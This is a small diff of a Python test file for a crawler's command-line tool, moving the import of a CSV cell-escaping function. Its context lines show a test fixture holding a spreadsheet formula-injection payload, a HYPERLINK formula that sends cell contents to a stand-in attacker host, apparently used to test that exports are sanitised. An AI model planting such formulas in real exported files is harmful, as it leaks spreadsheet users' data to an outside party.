@@ -11,7 +11,7 @@ from click.testing import CliRunner
 
 from crawler import store
 from crawler.cli import cli
-from crawler.reporting.render import csv_cell
+from crawler.spreadsheets import csv_cell
 
 HOSTILE = {
     "kim-a": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
